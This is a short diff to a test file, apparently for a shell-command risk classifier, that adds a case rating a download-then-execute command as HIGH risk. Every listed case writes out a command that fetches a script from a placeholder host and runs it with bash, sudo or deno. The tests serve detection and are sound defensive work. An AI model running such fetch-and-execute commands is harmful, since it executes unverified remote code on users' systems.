@@ -33,6 +33,7 @@ describe('a fetched program', () => {
     'sudo -u me curl -so x https://example.com/x; sudo -u me ./x',
     'curl -so x.sh https://example.com/x 2>/dev/null; bash -o pipefail x.sh',
     'curl -s https://example.com/x 2>/dev/null > x.sh; bash x.sh',
+    'curl -so x.sh https://example.com/x; bash < x.sh',
     'curl -so x.ts https://example.com/x; deno run x.ts',
   ])('%s', async (script) => expect(await piped(run(script))).toEqual(['HIGH']));
 
